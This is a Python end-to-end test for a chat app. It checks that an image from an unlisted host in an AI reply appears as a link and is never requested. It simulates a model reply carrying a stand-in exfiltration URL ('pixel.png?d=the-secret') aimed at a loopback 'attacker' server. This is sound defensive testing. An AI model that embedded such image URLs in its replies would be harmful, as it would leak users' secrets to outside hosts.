"""Images in a reply: one from a host not listed in ``PARLEY_IMAGE_HOSTS`` never loads (a reply
cannot leak data through an image URL without a click) and is shown as a link; a listed host's
image loads."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator

import pytest
from tests.conftest import Live
from tests.e2e.support import Page, expect, last_reply, send, wait_status

from parley.providers.scripted import ScriptedProvider

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.parametrize("settings_overrides", [{"image_hosts": ["http://localhost:*"]}]),
]


@pytest.fixture
async def attacker() -> AsyncIterator[tuple[int, list[bytes]]]:
    """A port on loopback that records every connection made to it (TLS or not)."""
    hits: list[bytes] = []

    async def record(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        hits.append(await reader.read(100))
        writer.close()

    server = await asyncio.start_server(record, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1], hits


async def test_an_image_from_an_unlisted_host_is_a_link_and_never_requested(
    page: Page, live: Live, scripted: ScriptedProvider, attacker: tuple[int, list[bytes]]
) -> None:
    attacker_port, hits = attacker
    blocked: list[tuple[str, str | None]] = []
    page.on("requestfailed", lambda request: blocked.append((request.url, request.failure)))
    listed = f"http://localhost:{live.url.rsplit(':', 1)[1]}/static/favicon.svg"
    leak = f"https://127.0.0.1:{attacker_port}/pixel.png?d=the-secret"
    scripted.enqueue([{"text": f"![logo]({listed}) and ![chart]({leak})"}])
    await send(page, "Show me")
    await wait_status(page, "complete")
    reply = last_reply(page)
    link = reply.locator(".md a.image-link")
    await expect(link).to_have_text("Image: chart")
    await expect(link).to_have_attribute("href", leak)
    await expect(reply.locator(f'.md img[src="{listed}"]')).to_have_count(1)
    assert hits == []
    assert {failure for url, failure in blocked if url == leak} == {"csp"}
